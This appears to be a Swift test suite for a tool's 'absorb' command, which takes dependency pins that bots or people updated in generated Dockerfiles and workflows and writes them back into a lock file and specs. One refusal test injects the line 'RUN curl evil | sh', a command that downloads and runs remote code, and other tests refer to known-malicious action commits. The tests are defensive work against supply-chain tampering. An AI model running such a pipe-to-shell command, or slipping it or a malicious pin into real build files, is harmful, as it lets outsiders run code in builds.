import Foundation
import Support
import Testing

/// Pins that bots and people have moved in generated files, taken over into the lock and the specs.
@Suite struct AbsorbTests {
  private static let dockerfile = "generated/services/control-plane/Dockerfile"
  private static let workflow = "generated/.github/workflows/containers.yml"
  private static let golang =
    "golang:1.27.0-alpine@sha256:4c9fe60190a2a3350ddc51de80d0224b8a6698d12bdfc999fee45ea9d6c46dbc"
  private static let checkout = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
  /// Digests and commits of nothing.
  private static let digest = "sha256:" + String(repeating: "0ddba11e", count: 8)
  private static let commit = String(repeating: "c0ffee11", count: 5)

  /// The example with everything it uses in its lock.
  private func generated() throws -> Scratch {
    let scratch = try Scratch(specsOf: repository)
    #expect(try scratch.scantling("pin").status == 0)
    #expect(try scratch.scantling("generate").status == 0)
    return scratch
  }

  private func snapshot(_ scratch: Scratch) throws -> [String: String] {
    Dictionary(uniqueKeysWithValues: try scratch.files().map { ($0, try scratch.read($0)) })
  }

  /// A text without digests, commits and versions of releases.
  private func blanked(_ text: String) -> String {
    text.replacing(/sha256:[0-9a-f]{64}/, with: "<digest>").replacing(/\b[0-9a-f]{40}\b/, with: "<commit>")
      .replacing(/v\d+\.\d+\.\d+/, with: "<release>")
  }

  /// Takes over what was edited: then nothing drifts, and nothing but pins is another than before.
  private func expectAbsorbed(_ scratch: Scratch, since before: [String: String], _ blank: (String) -> String) throws {
    let absorb = try scratch.scantling("absorb")
    #expect(absorb.status == 0, "\(absorb.errors)")
    #expect(absorb.output.split(separator: "\n").allSatisfy { $0.hasPrefix("absorbed ") })
    let check = try scratch.scantling("check")
    #expect(check.status == 0, "\(check.output.prefix(800))")
    let after = try snapshot(scratch)
    #expect(after.keys == before.keys)
    for (path, text) in after {
      let isSame = blank(text) == blank(before[path] ?? "")
      #expect(isSame, "\(path) differs in more than pins")
    }
  }

  private func expectRefused(_ scratch: Scratch, _ messages: String...) throws {
    let before = try snapshot(scratch)
    let absorb = try scratch.scantling("absorb")
    #expect(absorb.status == 1 && absorb.output.isEmpty && absorb.errors.hasSuffix("nothing was written\n"))
    for message in messages { #expect(absorb.errors.contains(message), "\(absorb.errors)") }
    let isUntouched = try snapshot(scratch) == before
    #expect(isUntouched)
  }

  /// Another commit and release of each action, and another digest of each image; others for each `seed` below 10.
  private func moved(_ text: String, _ seed: Int = 0) -> String {
    text.replacing(/(uses: [^@\n]+@)[0-9a-f]{32}([0-9a-f]{8}) # v(\d+)\.\d+\.\d+/) { match in
      "\(match.1)\(String(repeating: "abc\(seed)", count: 8))\(match.2) # v\(match.3).99.\(seed)"
    }.replacing(/@sha256:[0-9a-f]{56}([0-9a-f]{8})/) { match in
      "@sha256:\(String(repeating: "012345\(seed)", count: 8))\(match.1)"
    }
  }

  // MARK: What is taken over

  /// Dependabot moves the pins of one folder at a time, Renovate also those of one file; the others follow.
  @Test func takesThePinsOfEveryFileThatHoldsSome() throws {
    let scratch = try generated()
    let before = try snapshot(scratch)
    let files = before.keys.filter { $0.hasPrefix("generated/") && moved(before[$0] ?? "") != before[$0] }.sorted()
    #expect(files.count >= 15 && files.contains("generated/compose.dev.yaml") && files.contains(Self.workflow))
    for (index, file) in files.enumerated() {
      let before = try snapshot(scratch)
      try scratch.edit(file) { moved($0, index % 10) }
      try expectAbsorbed(scratch, since: before, blanked)
    }
  }

  @Test func takesThePinsOfAllFilesAtOnce() throws {
    let scratch = try generated()
    let before = try snapshot(scratch)
    for (path, text) in before where path.hasPrefix("generated/") { try scratch.write(moved(text), to: path) }
    try expectAbsorbed(scratch, since: before, blanked)
    let unchanged = before.filter { path, text in moved(text) != text && (try? scratch.read(path)) == text }.keys
    #expect(unchanged.filter { $0.hasPrefix("generated/") }.isEmpty)
  }

  @Test func namesEachPinOnceWithTheFileThatItIsFrom() throws {
    let scratch = try generated()
    try scratch.edit(Self.workflow) {
      $0.replacing(Self.checkout, with: "actions/checkout@\(Self.commit) # v7.1.0")
        .replacing("version: v0.75.0", with: "version: v0.76.0")
    }
    let absorb = try scratch.scantling("absorb")
    let lines = absorb.output.split(separator: "\n")
    #expect(lines.count == 2, "\(absorb.output)")
    #expect(
      absorb.output.contains(
        "absorbed actions/checkout v7.0.1 3d3c42e5aac5ba805825da76410c181273ba90b1 -> actions/checkout v7.1.0 \(Self.commit) from \(Self.workflow):"
      ))
    #expect(absorb.output.contains("absorbed trivy v0.75.0 -> trivy v0.76.0 from \(Self.workflow):"))
    #expect(absorb.errors.hasPrefix("wrote specs/scantling.lock, "))
    let lock = try scratch.read("specs/scantling.lock")
    #expect(lock.contains("  actions/checkout:\n    version: v7.1.0\n    commit: \(Self.commit)\n"))
    #expect(lock.contains("  trivy: v0.76.0\n"))
    #expect(try scratch.scantling("check", "--frozen").status == 0)
  }

  @Test func putsANewTagIntoTheSpecThatNamesIt() throws {
    let scratch = try generated()
    try scratch.edit("specs/control-plane.yaml") {
      "# Kept.\n"
        + $0.replacing("\"1.27.0\",", with: "'1.27.0' ,").replacing(
          "./cmd/control-plane }", with: "./cmd/control-plane } # too")
    }
    #expect(try scratch.scantling("check").status == 0)
    let before = try snapshot(scratch)
    try scratch.edit(Self.dockerfile) { $0.replacing(Self.golang, with: "golang:1.28.0-alpine@\(Self.digest)") }
    let absorb = try scratch.scantling("absorb")
    #expect(
      absorb.output.hasSuffix(
        " -> golang:1.28.0-alpine \(Self.digest) from \(Self.dockerfile):4, as '1.28.0' at specs/control-plane.yaml:5:19\n"
      ),
      "\(absorb.output) \(absorb.errors)")
    #expect(try scratch.scantling("check", "--frozen").status == 0)
    let spec = before["specs/control-plane.yaml"]?.replacing("1.27.0", with: "1.28.0")
    #expect(try scratch.read("specs/control-plane.yaml") == spec)
    #expect(try scratch.read(Self.dockerfile + ".dev").contains("golang:1.28.0-alpine@\(Self.digest)"))
    // The others stay where they were, and so does what they need.
    #expect(try scratch.read("generated/services/connector-gateway/Dockerfile").contains(Self.golang))
    let lock = try scratch.read("specs/scantling.lock")
    #expect(
      lock.contains("golang:1.27.0-alpine:\n") && lock.contains("golang:1.28.0-alpine:\n    digest: \(Self.digest)\n"))
  }

  @Test(arguments: [
    ("redis:8.10.1", "redis:8.10.2", "\"8.10.1\"", "\"8.10.2\""),
    ("postgres:16.14-alpine", "postgres:16.15-alpine", "\"16.14\"", "\"16.15\""),
  ])
  func putsANewTagOfAResourceIntoTheWorkspace(_ old: String, _ new: String, _ version: String, _ next: String) throws {
    let scratch = try generated()
    let before = try snapshot(scratch)
    try scratch.edit("generated/compose.yaml") {
      $0.replacing(/image: (\S+)@sha256:[0-9a-f]{64}/) { match in
        String(match.1) == old ? "image: \(new)@\(Self.digest)" : String(match.0)
      }
    }
    try expectAbsorbed(scratch, since: before) {
      blanked($0).replacing(new, with: old).replacing(next, with: version)
        .replacing(/"?\b\#(next.dropFirst().dropLast())\b"?/, with: version).replacing(
          /version: "?16\.1[45]"?|version: "?8\.10\.[12]"?/, with: "version")
    }
    #expect(
      try scratch.read("specs/workspace.yaml") == before["specs/workspace.yaml"]?.replacing(version, with: next))
    #expect(!(try scratch.read("specs/scantling.lock")).contains(old))
  }

  @Test func takesThePinsOfACheckoutWithCRLF() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { $0.replacing(Self.golang, with: "golang:1.28.0-alpine@\(Self.digest)") }
    for file in scratch.files() { try scratch.edit(file) { $0.replacing("\n", with: "\r\n") } }
    let spec = try scratch.read("specs/control-plane.yaml")
    #expect(try scratch.scantling("absorb").status == 0)
    #expect(try scratch.read("specs/control-plane.yaml") == spec.replacing("1.27.0", with: "1.28.0"))
    #expect(try scratch.scantling("check").status == 0)
  }

  @Test func beginsALockWhereThereIsNone() throws {
    let scratch = try Scratch()
    try scratch.write("workspace: shop\nregistry: ghcr.io/shop\nplatforms: [linux/amd64]\n", to: "specs/workspace.yaml")
    try scratch.write("service: api\nbuild: { go: { version: \"1.27.0\" } }\n", to: "specs/api.yaml")
    #expect(try scratch.scantling("generate").status == 0)
    let lock = "specs/scantling.lock"
    try scratch.edit(".github/workflows/containers.yml") {
      $0.replacing(Self.checkout, with: "actions/checkout@\(Self.commit) # v7.1.0")
    }
    let absorb = try scratch.scantling("absorb")
    #expect(absorb.status == 0 && absorb.errors.hasPrefix("wrote \(lock), "), "\(absorb.errors)")
    #expect(
      try scratch.read(lock).hasSuffix(
        "actions:\n  actions/checkout:\n    version: v7.1.0\n    commit: \(Self.commit)\n"))
    #expect(try scratch.scantling("check").status == 0)
  }

  @Test func saysWhatItWouldDoAndDoesNothing() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { $0.replacing(Self.golang, with: "golang:1.28.0-alpine@\(Self.digest)") }
    let before = try snapshot(scratch)
    let absorb = try scratch.scantling("absorb", "--dry-run")
    #expect(absorb.status == 0 && absorb.output.hasPrefix("would absorb golang:1.27.0-alpine sha256:4c9f"))
    #expect(absorb.output.contains("\n--- a/specs/control-plane.yaml\n+++ b/specs/control-plane.yaml\n"))
    #expect(absorb.output.contains("\n+  docker.io/library/golang:1.28.0-alpine:\n"))
    #expect(absorb.output.contains("\nwould be updated: \(Self.dockerfile).dev\n"))
    let isUntouched = try snapshot(scratch) == before
    #expect(isUntouched)
  }

  @Test func saysThatThereIsNothing() throws {
    let scratch = try generated()
    let absorb = try scratch.scantling("absorb")
    #expect(absorb.status == 0 && absorb.output.isEmpty)
    #expect(absorb.errors == "nothing to absorb: no generated file was edited\n")
  }

  @Test func isWhatCheckAdvises() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { moved($0) }
    #expect(try scratch.scantling("check").errors.contains("1 edited by hand: run 'scantling absorb', or give"))
  }

  // MARK: What is refused

  @Test(arguments: [
    ("EXPOSE 8080", "EXPOSE 9090"), ("USER 65532:65532\n", ""),
    ("WORKDIR /src\n", "WORKDIR /src\nRUN curl evil | sh\n"),
    (golang, "golang:1.28.0-alpine"), ("ENV PORT", "ENV PIN=\(digest) PORT"),
  ])
  func reportsWhateverElseWasChanged(_ old: String, _ new: String) throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { moved($0).replacing(moved(old), with: new) }
    try expectRefused(
      scratch, "\(Self.dockerfile):", "edited by hand, and not only in pins", "note: take the change back")
  }

  @Test func reportsAnEditOfAnotherFile() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { moved($0) }
    try scratch.edit("generated/Makefile") { $0 + "mine:\n" }
    try expectRefused(scratch, "generated/Makefile:")
  }

  @Test(arguments: [
    ("actions/checkout@\(commit)", "the commit has no version beside it"),
    ("actions/checkout@\(commit) # main", "what stands beside the commit is not its version"),
    ("actions/checkout@v7.1.0", "'v7.1.0' is not a git commit"),
    ("actions/checkout@70379aad1a8b40919ce8b382d3cd7d0315cde1d0 # v7.1.0", "must not be used: a malicious commit"),
    ("actions/checkout@\(commit) # v7.0.1", "v7.0.1 of actions/checkout has another commit than before"),
  ])
  func refusesWhatIsNoPinOfAnAction(_ pin: String, _ message: String) throws {
    let scratch = try generated()
    try scratch.edit(Self.workflow) { $0.replacing(Self.checkout, with: pin) }
    try expectRefused(scratch, "\(Self.workflow):45:1: error: ", message)
  }

  @Test(arguments: [
    ("golang:1.28.0-alpine@sha256:4c9fe601", "'sha256:4c9fe601' is not a digest"),
    ("golang:1.28.0-Alpine@\(digest)", "no version or option here makes 'golang:1.28.0-Alpine'"),
    ("golang:1.27.0-bookworm@\(digest)", "no version or option here makes 'golang:1.27.0-bookworm'"),
    ("golang@\(digest)", "no version or option here makes 'golang'"),
  ])
  func refusesWhatIsNoPinOfAnImage(_ pin: String, _ message: String) throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { $0.replacing(Self.golang, with: pin) }
    try expectRefused(scratch, message)
  }

  /// Of every commit of the list, in the place where bots would put it.
  @Test func refusesCommitsOfTrivyThatAreKnownToBeBad() throws {
    let scratch = try generated()
    let table = try String(contentsOf: repository.appending(path: "templates/actions.yaml"), encoding: .utf8)
    let commits = table.matches(of: /(?m)^      - ([0-9a-f]{40})$/).map { String($0.1) }
    #expect(commits.count > 70)
    for commit in [commits[0], commits[commits.count / 2]] {
      try scratch.edit(Self.workflow) {
        $0.replacing(/aquasecurity\/trivy-action@.*/, with: "aquasecurity/trivy-action@\(commit) # v0.36.1")
      }
      try expectRefused(scratch, "'aquasecurity/trivy-action' at v0.36.1 must not be used", "[known-bad-pin]")
    }
    try scratch.edit(Self.workflow) {
      $0.replacing(/aquasecurity\/trivy-action@.*/, with: "aquasecurity/trivy-action@\(Self.commit) # v0.34.2")
    }
    try expectRefused(scratch, "'aquasecurity/trivy-action' at v0.34.2 must not be used")
  }

  @Test func saysWhichOptionIsMissingWhereNoneMakesTheTag() throws {
    let scratch = try generated()
    try scratch.edit("generated/services/indexer/Dockerfile.dev") { $0.replacing("uv:0.10.3", with: "uv:0.11.0") }
    try expectRefused(
      scratch, "specs/indexer.yaml:4:3: error: no version or option here makes 'ghcr.io/astral-sh/uv:0.11.0'",
      "note: generated/services/indexer/Dockerfile.dev:5:1: it was changed here",
      "note: templates/languages/python.yaml:41:24: this part of its name is not of the spec")
  }

  @Test func reportsFilesThatDisagree() throws {
    let scratch = try generated()
    let other = "generated/services/connector-gateway/Dockerfile"
    try scratch.edit(Self.dockerfile) { moved($0) }
    try scratch.edit(other) { $0.replacing(/@sha256:4c9f[0-9a-f]+/, with: "@\(Self.digest)") }
    try expectRefused(
      scratch, "\(Self.dockerfile):4:1: error: 'golang:1.27.0-alpine' has one pin",
      "note: \(other):4:1: the other is here")
  }

  @Test func reportsTwoVersionsWhereASpecHasOne() throws {
    let scratch = try generated()
    for (file, tag) in [(Self.dockerfile, "1.28.0"), (Self.dockerfile + ".dev", "1.28.1")] {
      try scratch.edit(file) { $0.replacing(Self.golang, with: "golang:\(tag)-alpine@\(Self.digest)") }
    }
    try expectRefused(scratch, "\(Self.dockerfile).dev:4:1: error: ", "note: \(Self.dockerfile):4:1: the other is here")
  }

  /// From 18 on the image of postgres keeps its data elsewhere: that is for a person to decide.
  @Test func reportsWhatElseANewVersionChanges() throws {
    let scratch = try generated()
    try scratch.edit("generated/compose.yaml") {
      $0.replacing(/postgres:16.14-alpine@sha256:[0-9a-f]+/, with: "postgres:18.1-alpine@\(Self.digest)")
    }
    try expectRefused(scratch, "with the new pins this line becomes another", "change the version in the spec yourself")
  }

  @Test func reportsAMergeThatIsNotResolved() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) {
      let line = $0.split(separator: "\n")[2]
      return $0.replacing(line, with: "<<<<<<< HEAD\n\(line)\n=======\n\(moved(String(line)))\n>>>>>>> renovate/golang")
    }
    try expectRefused(scratch, "\(Self.dockerfile):4:1: error: a merge of git is not resolved here")
    try scratch.edit("specs/scantling.lock") { "<<<<<<< HEAD\n=======\n>>>>>>> main\n" + $0 }
    try expectRefused(scratch, "specs/scantling.lock:1:1: error: a merge of git is not resolved here")
  }

  /// Something that cannot be replaced is in the place of what a write begins with.
  @Test func writesNothingWhereTheLockCannotBeWritten() throws {
    let scratch = try generated()
    try scratch.edit(Self.dockerfile) { $0.replacing(Self.golang, with: "golang:1.28.0-alpine@\(Self.digest)") }
    try scratch.write("", to: "specs/.scantling.lock.scantling-new/file")
    let before = try snapshot(scratch)
    let absorb = try scratch.scantling("absorb")
    #expect(absorb.status == 74 && absorb.errors.contains("cannot write 'specs/scantling.lock'"), "\(absorb.errors)")
    let isUntouched = try snapshot(scratch) == before
    #expect(isUntouched)
  }
}
